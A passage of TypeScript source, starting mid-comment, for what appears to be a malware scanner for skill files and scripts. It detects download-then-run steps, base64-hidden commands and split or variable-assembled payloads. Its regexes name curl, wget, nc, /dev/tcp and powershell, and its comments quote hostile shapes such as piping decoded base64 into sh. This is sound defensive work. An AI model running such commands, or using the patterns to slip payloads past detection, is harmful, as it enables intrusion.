 * run in the same paragraph, within RUN_WINDOW characters: `chmod +x` on it, an interpreter or
 * `./` before it, `Start-Process`. The window bounds the work: each download's search read the
 * rest of its paragraph, so a paragraph of many downloads of different names was quadratic
 * (3.3 s for 190 KB).
 */
const RUN_WINDOW = 4096;

function savedThenRun(text: string, paragraphs: readonly Window[], reads: () => readonly VariableRead[]): MaliciousFinding[] {
  const out: MaliciousFinding[] = [];
  /**
   * Per paragraph and file name, where the last search for a run of it started and where it found
   * one (-1: none). Each shape's downloads come in text order, so a run an earlier download of the
   * name found at or after a later one's end lies in the later one's window too.
   */
  const searched = new Map<string, { from: number; at: number }>();
  for (const { index, end, url, file, variable } of savedDownloads(text, reads)) {
    const why = untrustedHostOf(url);
    if (!why || file === '-' || file === '/dev/null') continue;
    const para = windowAt(paragraphs, index);
    if (!para) continue;
    const base = file.split(/[\\/]/).pop()!;
    const after = para.text.slice(end - para.start, end - para.start + RUN_WINDOW);
    // A run names the file: without its name in the window there is none, and no pattern is built.
    if (!after.toLowerCase().includes(base.toLowerCase())) continue;
    const name = base.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    // Windows runs a program by its name alone (`&& a.exe`), from the current folder (`.\\a.exe`)
    // or by its path, at a command's start and followed by a flag or nothing: only for a program's
    // extensions, since `.\\data.csv` names any file in PowerShell and a name opens prose too.
    const exe = /\.(?:exe|bat|cmd|ps1|msi|scr|com|hta|vbs)$/i.test(file)
      ? `|(?:^|[\\n;&|(])[ \\t]*(?:&[ \\t]*)?["']?(?:[^\\s"'\`;&|()]*[\\\\/])?${name}["']?(?=[ \\t]+[-/]|[ \\t]*(?:$|[\\n;&|)]))`
      : '';
    const source = `(?:chmod\\s+(?:[+ugoa]*x|[0-7]*[157][0-7]*)\\s+\\S*${name}\\b|(?<![-\\w./\\\\])(?:sh|bash|zsh|python[23]?|perl|node|ruby|source|Start-Process|start|open|Invoke-Item|ii|cmd\\s+/c|(?:powershell|pwsh)(?:\\.exe)?(?:\\s+(?!-File\\b)[^\\s;&|]+){0,12}\\s+-File)\\s+(?:-\\S+\\s+)*["']?\\S*${name}\\b|\\./${name}\\b|(?:^|[;&|\\s])[^\\s;&|]*/${name}(?:\\s|$)${exe})`;
    const key = `${para.start}\u0000${name}`;
    const before = searched.get(key);
    let at: number;
    if (before && end >= before.from && before.at >= end) at = before.at;
    else {
      const m = new RegExp(source, 'i').exec(after);
      at = m ? end + m.index : -1;
    }
    searched.set(key, { from: end, at });
    if (at >= 0) out.push({ technique: 'untrusted-remote-script', pattern: 'download-save-run', offset: index, length: end - index, message: `a file from ${why} is downloaded and then run${variable !== undefined ? ` (its URL is held in ${variable})` : ''}` });
  }
  return out;
}

/** A base64 literal long enough to hide a command. */
const BASE64 = /(?<![A-Za-z0-9+/=])[A-Za-z0-9+/]{32,}={0,2}(?![A-Za-z0-9+/=])/g;

/**
 * Base64 written in pieces, which no piece's own decoding shows: quoted strings joined by `+`, a
 * backslash or nothing (`"Y3Vy" + "bCAt…"`, Python's `("Y3Vy"\n "bCAt…")`, sh's `"Y3Vy""bCAt…"`).
 * The joiner's blanks are one run, then at most one `+` or `\` and another run, so that a failed
 * try does not split a long run of blanks every way.
 */
const JOINED_BASE64 = /(["'])[A-Za-z0-9+/=]{2,}\1(?:\s*(?:[+\\]\s*)?(["'])[A-Za-z0-9+/=]{2,}\2)+/g;
const QUOTED_PIECE = /["']([A-Za-z0-9+/=]+)["']/g;
/** A literal built from variables is decoded up to this length (each value may be 2,048 characters, and a command may read thousands side by side). */
const JOINED_MAX = 65_536;

/**
 * The base64 literals of a text, each where it starts and how long it is written: whole ones
 * (BASE64), ones written in quoted pieces (JOINED_BASE64), and, with `variables`, the values of
 * variables read side by side (`echo "$P1$P2" | base64 -d | sh`, each set to a piece above).
 */
function base64Literals(text: string, variables: (() => readonly VariableRead[]) | null): { index: number; length: number; literal: string }[] {
  const out: { index: number; length: number; literal: string }[] = [];
  for (const m of text.matchAll(new RegExp(BASE64.source, 'g'))) out.push({ index: m.index, length: m[0].length, literal: m[0] });
  for (const m of text.matchAll(JOINED_BASE64)) {
    const literal = [...m[0].matchAll(QUOTED_PIECE)].map((p) => p[1]!).join('');
    if (literal.length >= 32) out.push({ index: m.index + 1, length: m[0].length - 2, literal });
  }
  if (variables) {
    const reads = variables();
    for (let i = 0; i < reads.length; ) {
      let j = i;
      let literal = reads[i]!.value;
      // One literal per run of reads side by side, at most JOINED_MAX characters of it decoded.
      while (j + 1 < reads.length && reads[j + 1]!.index === reads[j]!.end) {
        j++;
        if (literal.length < JOINED_MAX) literal += reads[j]!.value;
      }
      if (j > i && literal.length >= 32 && /^[A-Za-z0-9+/]+={0,2}$/.test(literal)) out.push({ index: reads[i]!.index, length: reads[j]!.end - reads[i]!.index, literal });
      i = j + 1;
    }
  }
  return out;
}

/** What a base64 literal decodes to, when that is readable text; else null. */
export function decodeBase64Text(literal: string): string | null {
  if (literal.length % 4 === 1 || !/[0-9+/]/.test(literal) && !/[a-z]/.test(literal)) return null;
  const bytes = Buffer.from(literal, 'base64');
  if (bytes.length < 16) return null;
  const text = bytes.toString('utf8');
  if (text.includes('\uFFFD')) return null;
  const printable = [...text].filter((ch) => /[\x20-\x7E\t\n\r]/.test(ch)).length;
  return printable / text.length >= 0.95 ? text : null;
}

const COMMAND_WORDS = /\b(?:curl|wget|bash|sh|zsh|python[23]?|perl|nc|ncat|chmod|powershell|iex|osascript)\b|\/dev\/tcp\//;

const shorten = (s: string, n = 120) => {
  const t = collapse(s);
  return t.length > n ? `${t.slice(0, n - 1)}…` : t;
};

/**
 * Findings in one text (a SKILL.md or a script), sorted by offset, one per technique and offset.
 * `depth` bounds decoding: a decoded literal is scanned once more, not recursively for ever.
 */
export function scanMalicious(text: string, depth = 2): MaliciousFinding[] {
  const cached = recent.get(text);
  if (cached && depth === 2) return cached;
  const found = scanText(text, depth);
  if (depth === 2) {
    // Six lint rules, the parse pass and the verifier ask about the same text in turn.
    if (recent.size >= 8) recent.delete(recent.keys().next().value!);
    recent.set(text, found);
  }
  return found;
}

const recent = new Map<string, MaliciousFinding[]>();

/** The window of `ws` (sorted by start) that holds offset `at`. */
function windowAt(ws: readonly Window[], at: number): Window | undefined {
  let lo = 0;
  let hi = ws.length - 1;
  while (lo <= hi) {
    const mid = (lo + hi) >> 1;
    const w = ws[mid]!;
    if (at < w.start) hi = mid - 1;
    else if (at > w.start + w.text.length) lo = mid + 1;
    else return w;
  }
  return undefined;
}

/** Characters of real text around a segment, so that `\b`, lookbehinds and `(?!…)` see past its cut. */
const SEGMENT_CONTEXT = 64;

/** A piece of text a pattern is searched in: `text` starts at `start` of the scanned text. */
interface Piece {
  readonly start: number;
  readonly text: string;
  /** The matches this piece answers for: those starting in [ownStart, ownEnd) (the others are another piece's). */
  readonly ownStart: number;
  readonly ownEnd: number;
  /** For a segment of a long line: the segment itself, without context (what `all`/`none` and spans are judged on). */
  readonly segment?: Window;
}

interface Scanned {
  /** The text with every long line blanked (NUL characters, so offsets and windows stay). */
  readonly blanked: string;
  readonly pieces: readonly Piece[];
  /** The segments of each long line, by the line's start. */
  readonly segmentsOf: ReadonlyMap<number, readonly Window[]>;
}

/**
 * The pieces each pattern is searched in: the text with its long lines blanked, and each segment
 * of those lines with SEGMENT_CONTEXT characters of the text around it. A segment answers only for
 * matches starting in its stride (SEGMENT_STEP), so no match is found twice, and one of up to
 * SEGMENT - SEGMENT_STEP characters lies whole in the piece of the segment where it starts. A
 * piece that stops before the text's end ends with a NUL: `$` and a trailing `\s*` must not take
 * the cut for the end of the text.
 */
function piecesOf(text: string, lines: readonly Window[]): Scanned {
  const long = lines.filter((l) => l.text.length > SEGMENT);
  if (long.length === 0) return { blanked: text, pieces: [{ start: 0, text, ownStart: 0, ownEnd: text.length }], segmentsOf: new Map() };
  const parts: string[] = [];
  const segments: Piece[] = [];
  const segmentsOf = new Map<number, Window[]>();
  let at = 0;
  for (const l of long) {
    // NUL, not spaces: a pattern's `\s*` could run from the line before into a blank of spaces
    // (the newline is whitespace too), and no pattern starts with or gaps over NUL.
    parts.push(text.slice(at, l.start), '\u0000'.repeat(l.text.length));
    at = l.start + l.text.length;
    const starts = segmentStarts(l.text.length);
    const own: Window[] = [];
    starts.forEach((k, i) => {
      const segment = { start: l.start + k, text: l.text.slice(k, k + SEGMENT) };
      own.push(segment);
      const from = Math.max(0, l.start + k - SEGMENT_CONTEXT);
      const to = Math.min(text.length, l.start + k + SEGMENT + SEGMENT_CONTEXT);
      const ownEnd = i + 1 < starts.length ? l.start + starts[i + 1]! : l.start + l.text.length;
      segments.push({ start: from, text: text.slice(from, to) + (to < text.length ? '\u0000' : ''), ownStart: l.start + k, ownEnd, segment });
    });
    segmentsOf.set(l.start, own);
  }
  parts.push(text.slice(at));
  const blanked = parts.join('');
  return { blanked, pieces: [{ start: 0, text: blanked, ownStart: 0, ownEnd: text.length }, ...segments], segmentsOf };
}

/**
 * The matches of a global expression in the pieces of a text, in piece order: each piece is
 * searched from its own start (so lookbehinds see the context before it) and answers only for
 * matches starting before its own end. Offsets are in the text the pieces were cut from.
 */
function* ownMatches(re: RegExp, pieces: readonly Piece[]): Generator<{ m: RegExpExecArray; offset: number; piece: Piece }> {
  for (const piece of pieces) {
    re.lastIndex = piece.ownStart - piece.start;
    for (let m = re.exec(piece.text); m; m = re.exec(piece.text)) {
      if (m[0].length === 0) re.lastIndex++;
      const offset = piece.start + m.index;
      if (offset >= piece.ownEnd) break;
      yield { m, offset, piece };
    }
  }
}

function scanText(raw: string, depth: number): MaliciousFinding[] {
  // A command continued over lines with a backslash (`curl … \` then `  | bash`) is one line to
  // the shell: its line break reads as blanks here, so offsets stay the text's own.
  // Not before a blank line or a fence line: those end the command whatever the backslash says, and
  // joined they would merge paragraphs or hide a code block's fence.
  const text = raw.includes('\\\n') || raw.includes('\\\r\n') ? raw.replace(/\\\r?\n(?![ \t]*(?:\r?\n|$|```|~~~))/g, (m) => ' '.repeat(m.length)) : raw;
  const c = load();
  const { lines, paragraphs } = windows(text);
  const { blanked, pieces, segmentsOf } = piecesOf(text, lines);
  /** A window's text as `all` and `none` read it: the window with its long lines blanked, and each segment of those lines. */
  const scopesOf = (w: Window): string[] => {
    const scopes = [blanked.slice(w.start, w.start + w.text.length)];
    if (segmentsOf.size > 0) for (const [start, segments] of segmentsOf) if (start >= w.start && start <= w.start + w.text.length) scopes.push(...segments.map((g) => g.text));
    return scopes;
  };
  const out: MaliciousFinding[] = [];
  // One pass of each pattern over each piece; each match is then judged in its window (its line
  // or paragraph), the first match per window counting.
  for (const p of c.patterns) {
    const ws = p.within === 'line' ? lines : paragraphs;
    const taken = new Set<Window>();
    /** The verdict of `all` and `none` per window or span, asked once however many matches it holds. */
    const verdicts = new Map<string, boolean>();
    const judge = (key: string, scopes: readonly string[]): boolean => {
      let verdict = verdicts.get(key);
      if (verdict === undefined) {
        // Every `all` expression somewhere in the window, no `none` expression anywhere in it.
        verdict = p.allRe.every((r) => scopes.some((sc) => r.test(sc))) && !p.noneRe.some((r) => scopes.some((sc) => r.test(sc)));
        verdicts.set(key, verdict);
      }
      return verdict;
    };
    for (const { m, offset, piece } of ownMatches(new RegExp(p.re.source, 'gi'), pieces)) {
      const w = windowAt(ws, offset);
      if (!w || taken.has(w)) continue;
      let verdict: boolean;
      if (p.sameSpan) {
        // The span of the line (between backticks) that holds the match, in the line or, for a
        // long line, in the segment where the match starts (sameSpan patterns are line patterns).
        const base = piece.segment ?? w;
        const at = offset - base.start;
        const open = base.text.lastIndexOf('`', at - 1);
        const close = base.text.indexOf('`', at + m[0].length);
        const from = open + 1;
        const to = close < 0 ? base.text.length : close;
        verdict = judge(`${base.start + from}:${base.start + to}`, [base.text.slice(from, to)]);
      } else verdict = judge(`${w.start}`, scopesOf(w));
      if (!verdict) continue;
      taken.add(w);
      out.push({ technique: p.technique, pattern: p.id, offset, length: m[0].length, message: p.message });
    }
  }
  // Variables are read only for a text with a download or a decode-and-run in it (most have
  // neither: reading them for every text cost a fifth of the scan).
  let known: readonly VariableRead[] | undefined;
  const reads = (): readonly VariableRead[] => (known ??= variableReads(text));
  const runs = downloadRuns(text, paragraphs, reads);
  out.push(...runs, ...proseDownloadRuns(text, lines, paragraphs, runs));
  out.push(...bundledThenSent(text, lines, paragraphs));
  if (depth > 0) {
    // A regex of its own per call: the decoded text is scanned from inside this loop.
    const decodeLines = new Set(out.filter((f) => f.technique === 'decode-and-execute').map((f) => windowAt(lines, f.offset)));
    for (const { index, length, literal } of base64Literals(text, decodeLines.size > 0 ? reads : null)) {
      const decoded = decodeBase64Text(literal);
      if (decoded === null) continue;
      const inner = scanText(decoded, depth - 1);
      const decodedAndRun = decodeLines.has(windowAt(lines, index));
      if (inner.length > 0) {
        for (const f of inner) out.push({ ...f, pattern: `${f.pattern} (encoded)`, offset: index, length, message: `${f.message}, hidden in a base64 literal`, decoded: shorten(decoded) });
      } else if (decodedAndRun || COMMAND_WORDS.test(decoded)) {
        out.push({ technique: 'decode-and-execute', pattern: 'encoded-literal', offset: index, length, message: 'a base64 literal decodes to a command', decoded: shorten(decoded) });
      }
    }
  }
  // The decode-and-run finding on a line whose literal decodes says what it decodes to.
  const decodedAt = new Map(out.filter((f) => f.decoded !== undefined).map((f) => [windowAt(lines, f.offset), f.decoded!] as const));
  const seen = new Set<string>();
  return out
    .map((f) => {
      if (f.decoded !== undefined || f.technique !== 'decode-and-execute') return f;
      const d = decodedAt.get(windowAt(lines, f.offset));
      return d === undefined ? f : { ...f, decoded: d };
    })
    .sort((a, b) => a.offset - b.offset || (a.technique < b.technique ? -1 : a.technique > b.technique ? 1 : 0))
    .filter((f) => {
      const key = `${f.technique}\u0000${f.offset}`;
      return !seen.has(key) && (seen.add(key), true);
    });
}

/** The message of a finding as lint, verify and the build report state it. */
export function describeFinding(f: MaliciousFinding): string {
  return `${f.message}${f.decoded !== undefined ? ` (decodes to: ${JSON.stringify(f.decoded)})` : ''}`;
}
